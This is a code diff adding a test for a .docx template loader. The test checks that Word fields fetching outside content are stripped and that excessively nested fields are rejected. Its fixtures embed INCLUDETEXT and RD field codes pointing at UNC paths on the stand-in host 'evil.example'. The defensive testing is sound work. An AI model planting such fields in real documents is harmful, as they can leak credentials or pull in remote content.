@@ -426,3 +426,20 @@ def test_template_dirty_flags_go_and_questions_are_not_asked(tmp_path, fake_lib,
         if el.get("{http://schemas.openxmlformats.org/wordprocessingml/2006/main}dirty") is not None:
             instr = el.getparent().getnext()  # the begin's run, then the run of its instruction
             assert "TOC" in "".join(instr.itertext())
+
+
+def test_odd_but_possible_field_shapes_are_judged_too(tmp_path):
+    """A whole field in one run, a field that never ends, and fields nested deeper than any house style needs."""
+    one_run = (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText> INCLUDETEXT "\\\\\\\\evil.example\\\\a" '
+               b'</w:instrText><w:fldChar w:fldCharType="separate"/><w:t>een</w:t><w:fldChar w:fldCharType="end"/>'
+               b'</w:r></w:p>')
+    endless = (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> RD "\\\\\\\\evil.example\\\\b" '
+               b'</w:instrText></w:r></w:p><w:p><w:r><w:t>daarna</w:t></w:r></w:p>')
+    notes: list[str] = []
+    kept = load_template(_write(tmp_path / "vreemd.docx", _with_body(_base(), one_run + endless)), notes)
+    xml = kept.element.xml
+    assert "evil.example" not in xml and any("2 velden die inhoud van buiten ophalen" in n for n in notes)
+    assert "een" in [p.text for p in kept.paragraphs] and "daarna" in [p.text for p in kept.paragraphs]
+    deep = b"<w:p>" + b'<w:r><w:fldChar w:fldCharType="begin"/></w:r>' * 25 + b"</w:p>"
+    with pytest.raises(TemplateError, match="diep.docx heeft velden die meer dan 20 lagen diep"):
+        load_template(_write(tmp_path / "diep.docx", _with_body(_base(), deep)))
